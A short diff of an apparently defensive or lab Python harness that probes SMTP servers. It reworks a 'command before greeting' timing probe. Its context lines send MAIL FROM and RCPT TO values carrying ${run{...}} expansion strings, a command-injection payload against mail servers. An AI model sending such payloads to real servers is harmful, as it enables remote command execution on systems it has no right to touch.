@@ -787,8 +787,10 @@ def raw_smtp(ip, port, steps, early=None):
 def sc_smtp_exploit(out):
     ip = CFG["srv4"]
     ehlo = b"EHLO attacker.test\r\n"
-    s = raw_smtp(ip, 25, [b"QUIT\r\n"], early=ehlo)
-    s["probe"] = "command before greeting (EHLO sent right after connect)"
+    # Port 2525 greets a second late, so the EHLO really precedes the 220
+    # on the wire (Postfix on 25 greets faster than the client can send).
+    s = raw_smtp(ip, 2525, [b"QUIT\r\n"], early=ehlo)
+    s["probe"] = "command before greeting (EHLO sent right after connect, server greets after 1 s)"
     out.append(s)
     s = raw_smtp(ip, 25, [ehlo, b"MAIL FROM:<${run{/bin/true}}@example.test>\r\n",
                           b"RCPT TO:<root+${run{x}}@example.test>\r\n",
